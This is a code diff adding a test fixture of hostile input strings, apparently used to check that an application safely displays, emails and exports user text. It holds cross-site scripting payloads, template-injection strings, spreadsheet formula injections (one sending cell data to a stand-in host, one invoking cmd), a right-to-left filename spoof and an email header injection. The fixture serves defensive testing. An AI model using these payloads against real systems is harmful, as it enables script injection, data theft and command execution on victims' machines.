@@ -63,3 +63,20 @@ export const testScales: Readonly<Record<(typeof gradingScaleKeys)[number], Scal
     ],
   },
 }
+
+/** Texts that attack whoever shows, mails or exports them. A script among them would set `window.hostile`, or send a request. */
+export const hostileTexts = {
+  script: '<script>window.hostile=1</script>',
+  handler: `"><img src="https://hostile.test/x" onerror='window.hostile=1'>`,
+  svg: `'><svg/onload=window.hostile=1>`,
+  frame: '<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>',
+  link: 'javascript:window.hostile=1',
+  template: `{{constructor.constructor('window.hostile=1')()}} \${window.hostile=1} <%= 1 %>`,
+  formula: '=HYPERLINK("https://hostile.test/?"&A1,"Open")',
+  command: `+1+cmd|' /C calc'!A0`,
+  minus: '-2+3+cmd',
+  at: '@SUM(1+1)',
+  rightToLeft: 'Fees \u202Efdp.exe\u202C \u2067end',
+  header: 'Hello\r\nBcc: everyone@hostile.test\r\n\r\nHidden',
+  longWord: 'W'.repeat(60),
+} as const
